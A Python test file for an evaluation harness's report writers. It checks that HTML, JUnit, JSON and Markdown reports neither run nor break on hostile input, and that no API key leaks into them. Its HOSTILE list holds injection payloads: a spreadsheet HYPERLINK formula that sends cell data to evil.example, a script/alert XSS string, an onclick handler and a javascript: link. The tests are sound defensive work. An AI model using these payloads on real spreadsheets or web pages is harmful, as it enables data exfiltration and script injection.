"""What people and CI read: the same bytes for the same answers, and nothing in them that could run."""

from __future__ import annotations

import json
import re
from collections.abc import Sequence
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as Xml

import pytest

from eval import charts
from eval.accepted import accepted_of
from eval.confidence import Bin
from eval.figures import rows_of, summarise
from eval.gate import Bar, Change, Outcome, judge
from eval.gold import GoldQuestion, Quote
from eval.intervals import Figure
from eval.junit import safe, to_junit
from eval.measure import Measured
from eval.page import to_html
from eval.report import confusion, faults, some, to_json, to_markdown
from eval.reports import write_all
from eval.run import Answered, Cited, Found, Run
from eval.scores import score_all
from ingest.taught import VERDICTS

SENTENCE = "Never share your password with other members of staff or pupils."
OTHER = "Turn off your bluetooth setting on your mobile phone while at the school."
HOSTILE = [
    '=HYPERLINK("https://evil.example?x="&A1,"Click")',
    'a\nnew line, a "quote", a comma</td></tr></details><script>alert(1)</script>',
    "bell \x07 null \x00 escape \x1b beyond \ufffe",
    "]]> &amp; <!-- --> ' onclick=alert(1) `code` | pipe | **bold** [link](javascript:alert(1))",
]


def outcome(questions: Sequence[str], answered: str = "no", baseline: bool = False) -> Outcome:
    gold = tuple(
        GoldQuestion(f"q{n}", words, ((words, words),), "no", (Quote(SENTENCE, "required", "it"),), (words,))
        for n, words in enumerate(questions)
    )
    cited = (Cited("it", "it/1", OTHER, 0, len(OTHER), True),)
    answers = tuple(
        Answered(q.id, answered, q.question, cited, (), (Found("it", "it/1", q.question),), 0.7, "reader") for q in gold
    )
    rows = rows_of(gold, answers, score_all(gold, answers))
    measured = Measured(Run("e1", gold, answers, (3.0,) * len(gold)), rows, summarise(rows))
    accepted = accepted_of(rows, "e0", questions[0]) if baseline else None
    return judge(measured, Bar({"right": 0.5}, {}, Change()), accepted)


def worse() -> Outcome:
    """Of four questions that were right when a run was accepted one still is; one is not asked any more."""

    def answers(**verdicts: str) -> list[Answered]:
        slices = {name: verdict != "yes" for name, verdict in verdicts.items()}
        cited = {name: (Cited("it", "it/1", SENTENCE, 0, len(SENTENCE), exact),) for name, exact in slices.items()}
        return [Answered(name, verdict, "", cited[name], (), (), 0.7, "reader") for name, verdict in verdicts.items()]

    names = ("a", "broken", "flipped", "gone")
    gold = [GoldQuestion(name, f"may i {name}?", (), "no", (Quote(SENTENCE, "required", "it"),)) for name in names]
    then, now = answers(a="no", broken="no", flipped="no", gone="no"), answers(a="no", broken="error", flipped="yes")
    before, rows = (rows_of(gold[: len(some)], some, score_all(gold[: len(some)], some)) for some in (then, now))
    measured = Measured(Run("e1", tuple(gold[:3]), tuple(now), (3.0,) * 3), rows, summarise(rows))
    return judge(measured, Bar({}, {}, Change()), accepted_of(before, "e0", "then"))


class Page(HTMLParser):
    """The tags of a page, with their attributes, and its text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.mark.parametrize("words", HOSTILE, ids=["XI-01", "XI-02", "controls", "markup"])
def test_nothing_that_was_asked_or_answered_runs_or_breaks_a_report(words: str) -> None:
    found = outcome([words], baseline=True)
    page = Page(to_html(found))
    assert [tag for tag, _ in page.tags].count("script") == 1
    assert not [attrs for _, attrs in page.tags if any(name.startswith("on") or name == "style" for name in attrs)]
    assert not [attrs for _, attrs in page.tags if {"src", "action"} & set(attrs) or "//" in (attrs.get("href") or "")]
    shown = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]", "", words)
    assert shown in page.text
    case = Xml.fromstring(to_junit(found).encode()).find("testsuite/testcase")
    assert case is not None
    assert case.get("name") == " ".join(["q0", shown.replace("\n", " ")]) or case.get("name") == f"q0 {shown}"
    assert json.loads(to_json(found))["answers"][0]["question"] == words
    assert "<script>" not in to_markdown(found)
    assert "](javascript" not in to_markdown(found)


def test_xml_gets_no_character_that_it_cannot_hold() -> None:
    assert safe("a\ud800\ufffe\x0bb\tc\U0001f600") == "ab\tc\U0001f600"


def test_the_page_needs_nothing_but_itself_and_lets_only_its_own_code_run() -> None:
    page = Page(to_html(outcome(["may i share my password?"])))
    assert not [tag for tag, attrs in page.tags if tag in ("link", "img", "iframe", "base", "object")]
    (policy,) = [attrs["content"] or "" for tag, attrs in page.tags if attrs.get("http-equiv")]
    assert "default-src 'none'" in policy
    assert len(re.findall(r"'sha256-[A-Za-z0-9+/]{43}='", policy)) == 2


def test_a_question_shows_what_was_expected_answered_cited_and_why_it_is_wrong() -> None:
    text = Page(to_html(outcome(["may i share my password?"], "yes"))).text
    for words in (SENTENCE, OTHER, "Expected: no", "Answered: yes", "not in the gold", "required, not cited"):
        assert words in text
    assert "dangerous: answered yes where the handbook says no; 0 of 1 required sentences cited" in text


def test_the_page_has_the_worst_answers_first_and_says_what_has_become_of_each() -> None:
    page = Page(to_html(worse()))
    questions = [attrs for _, attrs in page.tags if (attrs.get("class") or "").startswith("question ")]
    assert [(question["id"], question["data-state"]) for question in questions] == [
        ("flipped", "wrong|dangerous|newly wrong"),
        ("broken", "wrong|newly wrong"),
        ("a", "right"),
    ]
    assert page.text.count("in the gold, no slice of the page") == 1
    assert [attrs["href"] for tag, attrs in page.tags if tag == "a"] == ["#broken", "#flipped"]
    assert "No longer asked: gone" in page.text


def test_a_chart_has_its_points_where_its_figures_are() -> None:
    assert 'points="36.0,278.0 166.0,148.0 296.0,18.0"' in charts.risk_coverage([(0, 0), (0.5, 0.5), (1, 1)])
    assert '<circle class="dot" cx="166.0" cy="213.0"' in charts.reliability([Bin(0.5, 4, 0.5, 0.25, 0.1, 0.6)])
    bar = charts.intervals([Figure("right", 0.5, 4, 0.25, 0.75)], {"right": "right"})
    assert '<line class="range" x1="485.0" x2="655.0"' in bar
    assert '<circle class="dot" cx="570.0"' in bar


def test_an_answer_that_is_none_of_the_verdicts_is_counted_too() -> None:
    header, rows = confusion(worse().measured.summary)
    assert header == ("", *VERDICTS, "error")
    assert rows[VERDICTS.index("no")] == ("no", "1", "1", "0", "0", "0", "1")


def test_junit_has_a_test_for_each_question_and_one_for_the_gate() -> None:
    suites = Xml.fromstring(to_junit(outcome(["one?", "two?"])).encode())
    told = [(s.get("name"), s.get("tests"), s.get("failures"), len(s.findall("testcase/failure"))) for s in suites]
    assert told == [("gold", "2", "2", 2), ("gate", "1", "1", 1)]
    assert Xml.fromstring(to_junit(worse()).encode())[0].get("failures") == "2"
    failure = suites.find("testsuite[@name='gate']/testcase/failure")
    assert failure is not None
    assert failure.text == "right: the verdict, and every sentence it needs cited: 0.000 is below the floor of 0.500"


def test_markdown_names_the_failures_and_every_wrong_answer() -> None:
    text = to_markdown(outcome(["may i share my password?"], "yes", baseline=True))
    assert "**Below the bar:**" in text
    assert "| dangerous flips: yes for no, or no for yes | 1.000 | 1/1 | 0.207 – 1.000 |" in text
    assert "- `q0` may i share my password?: dangerous: answered yes where the handbook says no" in text
    assert "## Against the accepted run (may i share my password?)" in text


def test_the_same_answers_are_the_same_bytes_and_times_stay_apart(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("GITHUB_STEP_SUMMARY", raising=False)
    first = outcome(["one?", "two?"])
    slow = replace(first, measured=replace(first.measured, run=replace(first.measured.run, elapsed_ms=(9.0, 9.0))))
    write_all(first, tmp_path / "a")
    write_all(slow, tmp_path / "b")
    same = {
        path.name: path.read_bytes() == (tmp_path / "b" / path.name).read_bytes() for path in (tmp_path / "a").iterdir()
    }
    assert same == {
        "report.json": True,
        "report.md": True,
        "report.html": True,
        "junit.xml": True,
        "timings.json": False,
    }


def test_the_summary_goes_where_github_wants_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    summary = tmp_path / "summary.md"
    summary.write_text("before\n")
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    write_all(outcome(["one?"]), tmp_path / "reports")
    assert summary.read_text().startswith("before\n# Evaluation: 1 questions")
    assert summary.read_text().endswith("answers took 3 ms (median), 3 ms (95th percentile)\n")


def test_of_many_names_the_first_are_said_and_how_many_more() -> None:
    assert some([f"q{n}" for n in range(32)]).endswith("q28, q29 and 2 more")
    assert some(["q1", "q2"]) == "q1, q2"


def test_why_an_answer_is_wrong_is_said_in_words() -> None:
    row = outcome(["one?"], "yes").measured.rows[0]
    altered = replace(row, score=replace(row.score, flip=False, verdict=True, recall=1.0, quotes_exact=0))
    broken = replace(row, answer=replace(row.answer, error="ModelError: gone", verdict="error"))
    assert list(faults(altered)) == ["1 of 1 quotes are no slice of the page"]
    assert next(iter(faults(broken))) == "asking failed: ModelError: gone"


def test_a_secret_of_the_environment_is_in_no_report(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Case CS-01, for the forms of a report."""
    from eval.run import ask_all

    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-LEAKME")
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(tmp_path / "summary.md"))

    class Leaking:
        class edition:  # noqa: N801 – stands where an edition stands
            documents: dict[str, Any] = {}  # noqa: RUF012

            class manifest:  # noqa: N801
                digest = "e1"

        def ask(self, question: str, history: object = ()) -> Any:
            raise RuntimeError("401 for key sk-test-LEAKME")

    gold = outcome(["one?"]).measured.run.gold
    run = ask_all(Leaking(), gold, lambda what, done, total: None)  # type: ignore[arg-type]
    rows = rows_of(gold, run.answers, score_all(gold, run.answers))
    write_all(judge(Measured(run, rows, summarise(rows)), Bar({}, {}, Change()), None), tmp_path / "reports")
    written = [path.read_text("utf-8") for path in tmp_path.rglob("*") if path.is_file()]
    assert len(written) == 6
    assert not [text for text in written if "LEAKME" in text]
